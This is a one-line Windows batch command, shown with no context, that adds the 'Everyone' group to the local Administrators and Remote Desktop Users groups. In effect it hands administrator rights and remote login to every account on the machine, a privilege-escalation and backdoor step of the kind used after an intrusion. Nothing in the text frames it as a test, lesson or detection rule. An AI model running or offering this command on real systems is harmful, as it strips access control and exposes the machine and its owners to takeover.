for %%G in (Administrators "Remote Desktop Users") do net localgroup %%G Everyone /add
